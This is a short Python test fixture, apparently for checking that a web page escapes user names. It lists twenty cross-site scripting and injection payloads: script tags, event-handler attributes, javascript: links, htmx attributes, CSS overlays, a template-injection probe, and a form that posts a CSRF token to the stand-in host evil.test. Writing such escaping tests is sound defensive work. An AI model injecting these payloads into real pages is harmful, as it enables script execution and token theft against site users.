"""Names that try to be something else than a name, once in a page."""

PIEGES = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "'><svg onload=alert(5)>",
    '" onmouseover="alert(6)',
    "' onfocus='alert(7)' autofocus='",
    "javascript:alert(8)",
    '<a href="javascript:alert(9)">Léa</a>',
    "<iframe srcdoc='<script>alert(10)</script>'></iframe>",
    '<div hx-get="/agents" hx-trigger="load">x</div>',
    '<b hx-on:click="alert(12)">x</b>',
    "<form action=//evil.test><input name=csrf_token>",
    '" style="position:fixed;inset:0" x="',
    "<style>*{display:none}</style>",
    '<hx-partial hx-target="body">x</hx-partial>',
    "<!-- --><script>alert(17)//<!--",
    "{{ 7*7 }}{% raw %}${7*7}",
    "</textarea></select></dialog><details open ontoggle=alert(19)>",
    "\u202e\u2028<math><mi//xlink:href='data:x,<script>alert(20)</script>'>",
)
